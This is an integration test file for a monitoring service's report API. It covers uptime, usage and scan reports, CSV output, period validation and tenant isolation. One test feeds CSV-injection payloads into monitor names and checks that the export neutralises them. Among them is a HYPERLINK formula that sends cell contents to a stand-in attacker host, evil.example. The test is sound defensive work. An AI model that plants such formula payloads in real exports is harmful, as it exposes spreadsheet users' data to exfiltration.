import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../../helpers/app.js';
import { backends } from '../../helpers/database.js';

describe.each(backends)('reports on %s', (backend) => {
  let t: TestApp;
  let tenant: { tenantId: string; token: string; keyId: string };
  let monitorId: string;
  let containerId: string;

  beforeAll(async () => {
    t = await startTestApp(backend, { runWorkers: false, allowPrivateNetworks: true });
    tenant = await t.tenantWithKey('business');
    const monitor = await t.inject({
      method: 'POST',
      url: '/api/monitors/',
      token: tenant.token,
      payload: { name: 'Edge, "quoted"', target: { type: 'url', url: 'https://127.0.0.1:9/' }, interval_seconds: 60 },
    });
    monitorId = monitor.json().id;
    // Stored history at the period edges (UTC): the start instant is in, the end instant is out.
    const checks: Array<[string, string, number]> = [
      ['2026-10-31T23:59:59.999Z', 'down', 900],
      ['2026-11-01T00:00:00.000Z', 'up', 100],
      ['2026-11-15T12:00:00.000Z', 'down', 300],
      ['2026-11-30T23:59:59.999Z', 'up', 200],
      ['2026-12-01T00:00:00.000Z', 'down', 900],
    ];
    for (const [index, [at, result, latency]] of checks.entries()) {
      await t.database.db.execute(sql`insert into monitor_checks (id, monitor_id, tenant_id, checked_at, result, status_code, latency_ms)
        values (${`chk_test${index}`}, ${monitorId}, ${tenant.tenantId}, ${at}::timestamptz, ${result}, 200, ${latency})`);
    }
    await t.database.db.execute(sql`insert into scans (id, tenant_id, url, language, options, status, result, created_at)
      values ('scn_edge1', ${tenant.tenantId}, 'https://a.example/', 'en', '{"ai_summary":false,"pagespeed":false}', 'completed', '{"trackers":[{},{}]}', '2026-11-01T00:00:00Z'),
             ('scn_edge2', ${tenant.tenantId}, 'https://b.example/', 'de', '{"ai_summary":false,"pagespeed":false}', 'completed', '{"trackers":[]}', '2026-12-01T00:00:00Z')`);
    const container = await t.inject({
      method: 'POST',
      url: '/api/containers/',
      token: tenant.token,
      payload: {
        name: 'Shop',
        region: 'eu-central',
        config: Buffer.from('id=GTM-REP1234&env=1&auth=abcdefgh').toString('base64'),
      },
    });
    await t.database.db.execute(sql`insert into container_runtime_usage
      (container_id, day, hits_received, ga4_forwarded, meta_forwarded, forwards_failed, bots_dropped, cookies_restored)
      values (${container.json().id}, '2026-12-01', 12, 10, 4, 1, 2, 3), ('ctr_of_someone_else', '2026-12-01', 99, 99, 99, 99, 99, 99)`);
    containerId = container.json().id;
    // What the gateway flushed: two hostnames of the container on one day, the day after the period, another tenant's.
    await t.database.db.execute(sql`insert into container_usage (container_id, day, hostname, status_class, requests)
      values (${containerId}, '2026-11-30', 'a.example', '2xx', 5), (${containerId}, '2026-11-30', 'b.example', '2xx', 2),
             (${containerId}, '2026-11-30', 'a.example', '5xx', 1), (${containerId}, '2026-12-01', 'a.example', '4xx', 3),
             (${containerId}, '2026-12-02', 'a.example', '2xx', 50), ('ctr_of_someone_else', '2026-11-30', 'x.example', '2xx', 99)`);
  }, 60_000);
  afterAll(() => t?.close());

  async function build(payload: object) {
    const created = await t.inject({ method: 'POST', url: '/api/reports/', token: tenant.token, payload });
    expect(created.statusCode, created.body).toBe(202);
    expect(created.json()).toMatchObject({ status: 'queued', download_url: null });
    const early = await t.inject({
      method: 'GET',
      url: `/api/reports/${created.json().id}/download/`,
      token: tenant.token,
    });
    expect(early.statusCode).toBe(409);
    expect(early.json().error.code).toBe('report_not_ready');
    while (await t.app.services.reports.runNext());
    const report = (
      await t.inject({ method: 'GET', url: `/api/reports/${created.json().id}/`, token: tenant.token })
    ).json();
    expect(report.status).toBe('ready');
    return t.inject({ method: 'GET', url: report.download_url, token: tenant.token });
  }

  const november = { period_start: '2026-11-01T00:00:00Z', period_end: '2026-12-01T00:00:00Z' };

  describe('getReport · GET /api/reports/:id/', () => {
    it('shows a report queued, then ready with its download_url once built', async () => {
      const created = await t.inject({
        method: 'POST',
        url: '/api/reports/',
        token: tenant.token,
        payload: { kind: 'uptime', ...november },
      });
      const url = `/api/reports/${created.json().id}/`;
      const queued = await t.inject({ method: 'GET', url, token: tenant.token });
      expect(queued.statusCode, queued.body).toBe(200);
      expect(queued.json()).toMatchObject({ status: 'queued', download_url: null });
      while (await t.app.services.reports.runNext());
      const ready = (await t.inject({ method: 'GET', url, token: tenant.token })).json();
      expect(ready).toMatchObject({ status: 'ready', download_url: expect.stringContaining('/download/') });
    });
  });

  describe('listReports · GET /api/reports/', () => {
    it("lists the tenant's reports, and no other tenant's", async () => {
      const created = await t.inject({
        method: 'POST',
        url: '/api/reports/',
        token: tenant.token,
        payload: { kind: 'usage', ...november },
      });
      const stranger = await t.tenantWithKey('pro');
      const mine = (await t.inject({ method: 'GET', url: '/api/reports/', token: tenant.token })).json();
      expect(mine.results.map((row: { id: string }) => row.id)).toContain(created.json().id);
      const theirs = (await t.inject({ method: 'GET', url: '/api/reports/', token: stranger.token })).json();
      expect(theirs.count).toBe(0);
    });
  });

  describe('downloadReport · GET /api/reports/:id/download/', () => {
    it('builds an uptime report over exactly the period, as JSON', async () => {
      const file = await build({ kind: 'uptime', ...november });
      expect(file.headers['content-type']).toContain('application/json');
      const body = file.json();
      expect(body.rows).toEqual([
        {
          monitor_id: monitorId,
          name: 'Edge, "quoted"',
          url: 'https://127.0.0.1:9/',
          checks: 3,
          up_checks: 2,
          uptime_pct: 66.667,
          p50_ms: 200,
          p95_ms: 290,
        },
      ]);
    });

    it('builds the same as CSV with proper quoting', async () => {
      const file = await build({ kind: 'uptime', ...november, format: 'csv' });
      expect(file.headers['content-type']).toContain('text/csv');
      expect(file.headers['content-disposition']).toMatch(/attachment; filename="rpt_.*-uptime\.csv"/);
      expect(file.body).toBe(
        `monitor_id,name,url,checks,up_checks,uptime_pct,p50_ms,p95_ms\r\n${monitorId},"Edge, ""quoted""",https://127.0.0.1:9/,3,2,66.667,200,290\r\n`,
      );
    });

    it('counts usage per UTC day, with the gateway requests by container and status class, and lists scans inside the period only', async () => {
      const usage = (
        await build({ kind: 'usage', period_start: '2026-11-30T00:00:00Z', period_end: '2026-12-01T00:00:00.001Z' })
      ).json();
      const quiet = {
        tracking_hits: 0,
        ga4_forwarded: 0,
        meta_forwarded: 0,
        forwards_failed: 0,
        bots_dropped: 0,
        cookies_restored: 0,
      };
      const noRequests = { gateway_1xx: 0, gateway_2xx: 0, gateway_3xx: 0, gateway_4xx: 0, gateway_5xx: 0 };
      expect(usage.rows).toEqual([
        {
          day: '2026-11-30',
          scans: 0,
          monitor_checks: 1,
          ...quiet,
          ...noRequests,
          gateway_requests: 8,
          gateway_2xx: 7,
          gateway_5xx: 1,
        },
        {
          day: '2026-12-01',
          scans: 1,
          monitor_checks: 1,
          tracking_hits: 12,
          ga4_forwarded: 10,
          meta_forwarded: 4,
          forwards_failed: 1,
          bots_dropped: 2,
          cookies_restored: 3,
          ...noRequests,
          gateway_requests: 3,
          gateway_4xx: 3,
        },
      ]);
      expect(usage.gateway_requests).toEqual([
        { day: '2026-11-30', container_id: containerId, container_name: 'Shop', status_class: '2xx', requests: 7 },
        { day: '2026-11-30', container_id: containerId, container_name: 'Shop', status_class: '5xx', requests: 1 },
        { day: '2026-12-01', container_id: containerId, container_name: 'Shop', status_class: '4xx', requests: 3 },
      ]);
      const csv = await build({
        kind: 'usage',
        period_start: '2026-11-30T00:00:00Z',
        period_end: '2026-12-01T00:00:00Z',
        format: 'csv',
      });
      expect(csv.body.split('\r\n')[0]).toBe(
        'day,scans,monitor_checks,tracking_hits,ga4_forwarded,meta_forwarded,forwards_failed,bots_dropped,cookies_restored,gateway_requests,gateway_1xx,gateway_2xx,gateway_3xx,gateway_4xx,gateway_5xx',
      );
      expect(csv.body.split('\r\n')[1]).toBe('2026-11-30,0,1,0,0,0,0,0,0,8,0,7,0,0,1');
      const scans = (await build({ kind: 'scans', ...november })).json();
      expect(scans.rows).toEqual([
        {
          scan_id: 'scn_edge1',
          url: 'https://a.example/',
          status: 'completed',
          language: 'en',
          trackers: 2,
          created_at: '2026-11-01T00:00:00.000Z',
        },
      ]);
    });

    it('neutralises text cells a spreadsheet would run as formulas, keeping numbers numeric', async () => {
      const owner = await t.tenantWithKey('business');
      const names = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+1+2', '-2+3', '@SUM(A1:A2)', 'Plain'];
      for (const name of names) {
        const created = await t.inject({
          method: 'POST',
          url: '/api/monitors/',
          token: owner.token,
          payload: { name, target: { type: 'url', url: 'https://127.0.0.1:9/' }, interval_seconds: 60 },
        });
        expect(created.statusCode, created.body).toBe(201);
      }
      const queued = await t.inject({
        method: 'POST',
        url: '/api/reports/',
        token: owner.token,
        payload: { kind: 'uptime', ...november, format: 'csv' },
      });
      while (await t.app.services.reports.runNext());
      const file = await t.inject({
        method: 'GET',
        url: `/api/reports/${queued.json().id}/download/`,
        token: owner.token,
      });
      const nameCells = file.body
        .split('\r\n')
        .slice(1, -1)
        .map((line) => line.split(',https://')[0].split(',').slice(1).join(','));
      expect(nameCells.sort()).toEqual(
        [`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`, "'+1+2", "'-2+3", "'@SUM(A1:A2)", 'Plain'].sort(),
      );
    });

    it("does not show another tenant's report", async () => {
      const other = await t.tenantWithKey('pro');
      const mine = (await t.inject({ method: 'GET', url: '/api/reports/', token: tenant.token })).json().results[0];
      expect(
        (await t.inject({ method: 'GET', url: `/api/reports/${mine.id}/download/`, token: other.token })).statusCode,
      ).toBe(404);
    });
  });

  describe('createReport · POST /api/reports/', () => {
    it.each([
      [
        'a reversed period',
        { kind: 'uptime', period_start: '2026-12-01T00:00:00Z', period_end: '2026-11-01T00:00:00Z' },
        'period_reversed',
      ],
      [
        'an empty period',
        { kind: 'uptime', period_start: '2026-12-01T00:00:00Z', period_end: '2026-12-01T00:00:00Z' },
        'period_reversed',
      ],
      [
        'a period over 366 days',
        { kind: 'uptime', period_start: '2024-01-01T00:00:00Z', period_end: '2026-01-01T00:00:00Z' },
        'period_too_long',
      ],
      ['an unknown kind', { kind: 'revenue', ...november }, 'invalid_parameter'],
      [
        'a date that is not a date-time',
        { kind: 'uptime', period_start: '2026-11-01', period_end: '2026-12-01T00:00:00Z' },
        'invalid_parameter',
      ],
    ])('refuses %s', async (_name, payload, code) => {
      const response = await t.inject({ method: 'POST', url: '/api/reports/', token: tenant.token, payload });
      expect(response.statusCode).toBe(400);
      expect(response.json().error.code).toBe(code);
    });
  });
});
